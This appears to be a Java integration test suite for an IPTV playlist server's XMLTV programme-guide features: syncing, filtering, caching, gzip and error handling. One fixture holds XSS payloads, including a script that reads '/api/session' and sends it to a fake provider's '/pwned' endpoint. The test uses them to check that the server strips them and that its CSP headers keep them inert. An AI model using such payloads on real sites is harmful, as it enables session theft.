package dev.lineup.epg;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.lineup.support.Accounts;
import dev.lineup.support.Api;
import dev.lineup.support.Api.Reply;
import dev.lineup.support.FakeProvider;
import dev.lineup.support.TestServer;
import dev.lineup.support.Tools;
import jakarta.json.Json;
import jakarta.json.JsonArrayBuilder;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.OutputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/** Guides: fetched from the provider, kept per account, served per playlist with its channels. */
class EpgIT {
  static final String CHROMIUM = System.getenv().getOrDefault("CHROMIUM", "/usr/bin/chromium");

  /** The lineup: name and tvg-id (epg_channel_id). */
  static final String[][] LINEUP = {
    {"US: CNN", "cnn.us"}, {"US: ESPN", "espn.us"}, {"US: No Guide", ""}, {"UK: BBC One", "bbc1.uk"}
  };

  static final String GUIDE =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <!DOCTYPE tv SYSTEM "xmltv.dtd">
      <tv generator-info-name="provider">
        <channel id="cnn.us"><display-name>CNN</display-name></channel>
        <channel id="espn.us"><display-name>ESPN &amp; more</display-name></channel>
        <channel id="bbc1.uk"><display-name>BBC One</display-name></channel>
        <channel id="other.xx"><display-name>Not in the lineup</display-name></channel>
        <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="cnn.us">
          <title lang="en">Morning News</title></programme>
        <programme start="20261126070000 +0000" stop="20261126080000 +0000" channel="cnn.us">
          <title lang="en">Later News</title></programme>
        <programme start="20261126060000 +0000" stop="20261126080000 +0000" channel="espn.us">
          <title lang="en">SportsCenter</title><desc>Höhepunkte &lt;live&gt;</desc></programme>
        <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="bbc1.uk">
          <title>Breakfast</title></programme>
        <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="other.xx">
          <title>Elsewhere</title></programme>
      </tv>
      """;

  /** The served guide of the lineup: its channels first, then their programmes, in order. */
  static final List<String> EXPECTED =
      List.of(
          "channel:cnn.us",
          "channel:espn.us",
          "channel:bbc1.uk",
          "programme:cnn.us",
          "programme:cnn.us",
          "programme:espn.us",
          "programme:bbc1.uk");

  FakeProvider provider;
  long account;

  @BeforeEach
  void setUp() {
    provider = FakeProvider.start();
    Api.patch("/api/settings", "{\"legacy_player_urls\": true}"); // these tests use the id URLs
    serveStreams(LINEUP);
    account = Accounts.create("Guide", provider);
  }

  @AfterEach
  void tearDown() {
    provider.close();
  }

  void syncAndFetch() {
    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
    Reply refresh = Api.post("/api/accounts/" + account + "/epg/refresh");
    assertEquals(200, refresh.status(), refresh.toString());
    assertEquals(4, refresh.json().getInt("channels"));
    assertEquals(5, refresh.json().getInt("programmes"));
  }

  static Document xml(Reply reply) throws Exception {
    assertEquals(200, reply.status(), reply.toString());
    assertTrue(reply.contentType().startsWith("application/xml"), reply.contentType());
    DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
    factory.setFeature("http://apache.org/xml/features/nonvalidating/load-external-dtd", false);
    return factory
        .newDocumentBuilder()
        .parse(new ByteArrayInputStream(reply.body().getBytes(StandardCharsets.UTF_8)));
  }

  /** "channel:id" and "programme:channel" in document order. */
  static List<String> elements(Document guide) {
    List<String> found = new ArrayList<>();
    for (Node n = guide.getDocumentElement().getFirstChild(); n != null; n = n.getNextSibling()) {
      if (n instanceof Element e) {
        found.add(
            e.getTagName()
                + ":"
                + (e.getTagName().equals("channel")
                    ? e.getAttribute("id")
                    : e.getAttribute("channel")));
      }
    }
    return found;
  }

  @Test
  void theGuideHoldsOnlyThePlaylistsChannelsChannelsFirst() throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    Document guide = xml(Api.get("/epg/" + account + ".xml", "*/*"));
    assertEquals("tv", guide.getDocumentElement().getTagName());
    assertEquals(EXPECTED, elements(guide));
    assertEquals("Höhepunkte <live>", guide.getElementsByTagName("desc").item(0).getTextContent());
    assertEquals(
        "ESPN & more", guide.getElementsByTagName("display-name").item(1).getTextContent());

    String m3u = Api.get("/playlist/" + account + ".m3u", "*/*").body();
    assertTrue(
        m3u.startsWith("#EXTM3U x-tvg-url=\"" + Api.BASE_URL + "/epg/" + account + ".xml\""), m3u);

    // The account's filters shape its guide as they shape its playlist.
    Api.post(
        "/api/accounts/" + account + "/filters",
        "{\"name\":\"No UK\",\"filter_type\":\"channel_name\",\"filter_action\":\"blacklist\","
            + "\"filter_value\":\"UK:\"}");
    List<String> filtered = elements(xml(Api.get("/epg/" + account + ".xml", "*/*")));
    assertTrue(filtered.stream().noneMatch(e -> e.endsWith("bbc1.uk")), filtered.toString());
    assertEquals(5, filtered.size(), filtered.toString());
  }

  @Test
  void aBrokenGuideKeepsThePreviousOne() throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    provider.serveGuide("<html><body>Maintenance</body></html>");
    Reply html = Api.post("/api/accounts/" + account + "/epg/refresh");
    assertEquals(502, html.status(), html.toString());
    assertTrue(html.isProblem());
    assertTrue(html.body().contains("XMLTV"), html.body());
    provider.serveGuide(GUIDE.substring(0, GUIDE.length() / 2));
    assertEquals(502, Api.post("/api/accounts/" + account + "/epg/refresh").status());
    assertEquals(7, elements(xml(Api.get("/epg/" + account + ".xml", "*/*"))).size());
    JsonObject status = Api.get("/api/accounts/" + account + "/epg").json();
    assertTrue(status.getBoolean("available"), status.toString());
  }

  @Test
  void deletingTheAccountDeletesItsStoredGuide() throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    Path epg = TestServer.guides();
    assertEquals(1, guideFiles(epg).size(), "the stored guide, in " + epg);
    assertEquals(200, Api.delete("/api/accounts/" + account).status());
    assertEquals(List.of(), guideFiles(epg));
  }

  private List<Path> guideFiles(Path epg) throws Exception {
    try (var files = Files.list(epg)) {
      return files
          .filter(f -> f.getFileName().toString().startsWith("account-" + account + "-"))
          .filter(f -> f.getFileName().toString().endsWith(".guide.gz"))
          .toList();
    }
  }

  @Test
  void noGuideYetIsAProblemWithAHint() {
    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
    Reply missing = Api.get("/epg/" + account + ".xml", "*/*");
    assertEquals(503, missing.status(), missing.toString());
    assertTrue(missing.isProblem());
    assertTrue(missing.body().contains("/epg/refresh"), missing.body());
    assertEquals(404, Api.get("/epg/999999.xml", "*/*").status());
  }

  @Test
  void aPlaylistConfigsGuideCoversItsAccountsOncePerChannel() throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    long second = Accounts.create("Guide two", provider);
    assertTrue(Api.post("/api/accounts/" + second + "/sync").json().getBoolean("success"));
    assertEquals(200, Api.post("/api/accounts/" + second + "/epg/refresh").status());
    JsonObject config = Accounts.playlistOf("Guide both", account, second);
    String m3u = config.getJsonObject("urls").getString("m3u");
    List<String> both = elements(xml(Api.get(m3u.replace("playlist.m3u", "epg.xml"), "*/*")));
    assertEquals(3, both.stream().filter(e -> e.startsWith("channel:")).count(), both.toString());
    assertEquals(
        4,
        both.stream().filter(e -> e.startsWith("programme:")).count(),
        "a shared channel's programmes come once, from the first guide");
  }

  @Test
  void anUnchangedGuideIsA304AndANewlyFetchedOneIsSentAgainGzipWhenAsked() throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    String path = "/epg/" + account + ".xml";
    Reply first = Api.get(path, "*/*");
    String etag = first.header("ETag");
    assertEquals(304, Api.get(path, "*/*", "If-None-Match", etag).status());

    Thread.sleep(20); // a new file time, even on a coarse clock
    provider.serveGuide(GUIDE.replace("Morning News", "Early News"));
    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
    Reply second = Api.get(path, "*/*", "If-None-Match", etag);
    assertEquals(200, second.status(), second.toString());
    assertTrue(second.body().contains("Early News"), second.body());

    HttpResponse<byte[]> zipped = Api.bytes(path, "Accept-Encoding", "gzip");
    assertEquals("gzip", zipped.headers().firstValue("Content-Encoding").orElse(null));
    try (GZIPInputStream in = new GZIPInputStream(new ByteArrayInputStream(zipped.body()))) {
      assertEquals(second.body(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
    }
  }

  /** An M3U account whose playlist carries the lineup, naming {@code header} as its guide. */
  long m3uAccount(String header) {
    StringBuilder m3u = new StringBuilder("#EXTM3U" + header + "\n");
    for (int i = 0; i < LINEUP.length; i++) {
      m3u.append(
          "#EXTINF:-1 tvg-id=\"%s\" group-title=\"All\",%s\n"
              .formatted(LINEUP[i][1], LINEUP[i][0]));
      m3u.append("http://streams.example.com/live/").append(i).append(".ts\n");
    }
    provider.servePlaylist(m3u.toString());
    long id =
        Accounts.createM3u(
            "Guide M3U", provider.url() + "/get.php?username=a&password=b&type=m3u_plus");
    assertTrue(Api.post("/api/accounts/" + id + "/sync").json().getBoolean("success"));
    return id;
  }

  @Test
  void anM3uAccountsGuideComesFromItsPlaylistsTvgUrlEvenGzip() throws Exception {
    Path gz = Files.createTempFile("guide", ".xml.gz");
    try {
      try (OutputStream out = new GZIPOutputStream(Files.newOutputStream(gz))) {
        out.write(GUIDE.getBytes(StandardCharsets.UTF_8));
      }
      provider.serveGuide(gz);
      String tvgUrl = provider.url() + "/epg.xml";
      long m3u = m3uAccount(" x-tvg-url=\"not a url, " + tvgUrl + "\"");
      assertEquals(tvgUrl, Api.get("/api/accounts/" + m3u).json().getString("provider_epg_url"));
      Reply refresh = Api.post("/api/accounts/" + m3u + "/epg/refresh");
      assertEquals(200, refresh.status(), refresh.toString());
      assertEquals(5, refresh.json().getInt("programmes"));
      assertEquals(EXPECTED, elements(xml(Api.get("/epg/" + m3u + ".xml", "*/*"))));
    } finally {
      Files.deleteIfExists(gz);
    }
  }

  @Test
  void withoutAGuideUrlAnM3uAccountAsksForItsEpgUrlWhichIsShownMasked() throws Exception {
    provider.serveGuide(GUIDE);
    long m3u = m3uAccount("");
    Reply none = Api.post("/api/accounts/" + m3u + "/epg/refresh");
    assertEquals(422, none.status(), none.toString());
    assertTrue(none.isProblem() && none.body().contains("epg_url"), none.body());

    Reply bad =
        Api.patch("/api/accounts/" + m3u, "{\"epg_url\": \"ftp://guides.example.com/x.xml\"}");
    assertEquals(422, bad.status(), bad.toString());
    assertTrue(bad.body().contains("epg_url"), bad.body());

    String url = provider.url() + "/epg.xml?token=s3cret";
    Reply set = Api.patch("/api/accounts/" + m3u, "{\"epg_url\": \"" + url + "\"}");
    assertEquals(200, set.status(), set.toString());
    assertEquals(provider.url() + "/epg.xml?token=***", set.json().getString("epg_url"));
    assertTrue(!set.body().contains("s3cret"), set.body());
    // Sending the masked URL back keeps the stored one.
    Api.patch("/api/accounts/" + m3u, "{\"epg_url\": \"" + set.json().getString("epg_url") + "\"}");
    Reply refresh = Api.post("/api/accounts/" + m3u + "/epg/refresh");
    assertEquals(200, refresh.status(), refresh.toString());
    assertEquals(4, refresh.json().getInt("channels"));
  }

  /** Serves these streams (name, tvg-id) instead of the lineup. */
  void serveStreams(String[]... lineup) {
    JsonArrayBuilder streams = Json.createArrayBuilder();
    for (int i = 0; i < lineup.length; i++) {
      streams.add(
          Json.createObjectBuilder()
              .add("stream_id", 300 + i)
              .add("name", lineup[i][0])
              .add("epg_channel_id", lineup[i][1])
              .add("category_id", "1"));
    }
    provider.serve(
        "[{\"category_id\":\"1\",\"category_name\":\"All\"}]", streams.build().toString());
  }

  @Test
  void guideIdsThatDifferOnlyInCaseAreEachInThePlaylistsGuide() throws Exception {
    serveStreams(
        new String[] {"ITV 4", "itv4.uk"},
        new String[] {"ITV4 HD", "ITV4.uk"},
        new String[] {"Sky One", "Sky1.uk"},
        new String[] {"Sky 1 (backup)", "sky1.uk"});
    provider.serveGuide(
        """
        <tv>
          <channel id="itv4.uk"><display-name>ITV4</display-name></channel>
          <channel id="ITV4.uk"><display-name>ITV4 HD</display-name></channel>
          <channel id="Sky1.uk"><display-name>Sky One</display-name></channel>
          <channel id="sky1.uk"><display-name>Sky 1</display-name></channel>
          <programme start="20261130060000 +0000" channel="ITV4.uk"><title>A</title></programme>
          <programme start="20261130060000 +0000" channel="sky1.uk"><title>B</title></programme>
        </tv>
        """);
    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
    String m3u = Accounts.playlistOf("Case", account).getJsonObject("urls").getString("m3u");
    assertEquals(
        List.of(
            "channel:ITV4.uk",
            "channel:Sky1.uk",
            "channel:itv4.uk",
            "channel:sky1.uk",
            "programme:ITV4.uk",
            "programme:sky1.uk"),
        elements(xml(Api.get(m3u.replace("playlist.m3u", "epg.xml"), "*/*"))).stream()
            .sorted()
            .toList());
  }

  /** A guide whose programme carries HTML, a script and foreign attributes. */
  static final String HOSTILE =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      <tv xmlns:h="http://www.w3.org/1999/xhtml">
        <channel id="cnn.us" onclick="alert(1)"><display-name>CNN</display-name>
          <icon src="javascript:alert(1)"/><h:img src="x" onerror="alert(2)"/></channel>
        <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="cnn.us">
          <title lang="en">News</title>
          <desc>Tonight<script xmlns="http://www.w3.org/1999/xhtml">
            document.documentElement.setAttribute('data-' + 'pwned', 'yes');
            fetch('/api/session').then(r => r.text()).then(t =>
              fetch('%s/pwned?' + encodeURIComponent(t)));
          </script></desc>
        </programme>
      </tv>
      """;

  @Test
  void aGuideKeepsOnlyXmltvAndPlayerAnswersAreInertInABrowser() throws Exception {
    provider.serveGuide(HOSTILE.formatted(provider.url()));
    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
    String m3u = Accounts.playlistOf("Inert", account).getJsonObject("urls").getString("m3u");
    String epg = m3u.replace("playlist.m3u", "epg.xml");
    Reply guide = Api.get(epg, "*/*");
    assertEquals(200, guide.status(), guide.toString());
    for (String gone : List.of("script", "fetch", "onclick", "onerror", "javascript", "xmlns")) {
      assertTrue(!guide.body().contains(gone), gone + " in " + guide.body());
    }
    assertTrue(guide.body().contains("<desc>Tonight</desc>"), guide.body());
    for (String path : List.of(epg, m3u, "/p/unknown-token-0123456789/epg.xml")) {
      Reply answer = Api.get(path, "*/*");
      assertEquals("default-src 'none'; sandbox", answer.header("Content-Security-Policy"), path);
      assertEquals("nosniff", answer.header("X-Content-Type-Options"), path);
      assertEquals("private, no-cache", answer.header("Cache-Control"), path);
    }

    Tools.debianAt(Path.of(CHROMIUM), "chromium", "chromium");
    int before = provider.requestCount();
    String dom = dumpDom(Api.BASE_URL + epg);
    assertTrue(dom.contains("Tonight"), "Chromium opened the guide: " + dom);
    assertTrue(!dom.contains("data-pwned=\"yes\""), dom);
    assertEquals(before, provider.requestCount(), "the guide's script called out");

    // In depth: the player answer's headers alone keep such a script from running, even unstripped.
    String raw =
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <tv><programme start="20261126060000 +0000" channel="cnn.us"><desc>Tonight<script \
        xmlns="http://www.w3.org/1999/xhtml">
          document.documentElement.setAttribute('data-' + 'pwned', 'yes');
        </script></desc></programme></tv>
        """;
    assertTrue(
        dumpDom(serve(raw, Map.of())).contains("data-pwned=\"yes\""), "the script runs bare");
    Map<String, String> headers = new java.util.HashMap<>();
    for (String name : List.of("Content-Security-Policy", "X-Content-Type-Options")) {
      headers.put(name, guide.header(name));
    }
    String inert = dumpDom(serve(raw, headers));
    assertTrue(inert.contains("Tonight"), inert);
    assertTrue(!inert.contains("data-pwned=\"yes\""), "the player headers stop it: " + inert);
  }

  /** Serves {@code xml} as application/xml with these headers on 127.0.0.1 for a minute. */
  static String serve(String xml, Map<String, String> headers) throws Exception {
    com.sun.net.httpserver.HttpServer server =
        com.sun.net.httpserver.HttpServer.create(
            new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
    byte[] body = xml.getBytes(StandardCharsets.UTF_8);
    server.createContext(
        "/",
        exchange -> {
          exchange.getResponseHeaders().set("Content-Type", "application/xml; charset=UTF-8");
          headers.forEach(exchange.getResponseHeaders()::set);
          exchange.sendResponseHeaders(200, body.length);
          try (OutputStream out = exchange.getResponseBody()) {
            out.write(body);
          }
        });
    server.setExecutor(
        java.util.concurrent.Executors.newCachedThreadPool(
            r -> {
              Thread t = new Thread(r);
              t.setDaemon(true);
              return t;
            }));
    server.start();
    Thread stopper = new Thread(() -> server.stop(0));
    java.util.concurrent.Executors.newSingleThreadScheduledExecutor(
            r -> {
              Thread t = new Thread(r);
              t.setDaemon(true);
              return t;
            })
        .schedule(stopper, 60, java.util.concurrent.TimeUnit.SECONDS);
    return "http://127.0.0.1:" + server.getAddress().getPort() + "/guide.xml";
  }

  /** The document Chromium builds from {@code url}, after its scripts (if any) ran. */
  static String dumpDom(String url) throws Exception {
    Path profile = Files.createTempDirectory("chromium");
    try {
      dev.lineup.support.Node.Result dom =
          dev.lineup.support.Node.run(
              Path.of("."),
              List.of(
                  CHROMIUM,
                  "--headless",
                  "--no-sandbox",
                  "--disable-gpu",
                  "--disable-background-networking",
                  "--no-first-run",
                  "--user-data-dir=" + profile,
                  "--virtual-time-budget=3000",
                  "--dump-dom",
                  url),
              Map.of(),
              60);
      assertEquals(0, dom.status(), dom.output());
      return dom.output();
    } finally {
      try (var files = Files.walk(profile)) {
        files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
      }
    }
  }

  @Test
  void anOversizedProgrammeFailsTheRefreshWhichIsRecordedAndKeepsThePreviousGuide()
      throws Exception {
    provider.serveGuide(GUIDE);
    syncAndFetch();
    provider.serveGuide(
        GUIDE.replace("Höhepunkte &lt;live&gt;", "x".repeat(2 << 20))); // a 2 MiB description
    Reply big = Api.post("/api/accounts/" + account + "/epg/refresh");
    assertEquals(502, big.status(), big.toString());
    assertTrue(big.body().contains("larger than 1024 KiB"), big.body());
    JsonObject status = Api.get("/api/accounts/" + account + "/epg").json();
    assertTrue(status.getBoolean("available"), status.toString());
    assertEquals(5, status.getInt("programmes"), status.toString());
    assertTrue(status.getString("last_error").contains("larger than"), status.toString());
    assertEquals(7, elements(xml(Api.get("/epg/" + account + ".xml", "*/*"))).size());

    provider.serveGuide(GUIDE);
    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
    assertTrue(
        !Api.get("/api/accounts/" + account + "/epg").json().containsKey("last_error"),
        "a stored guide clears the failure");
  }
}
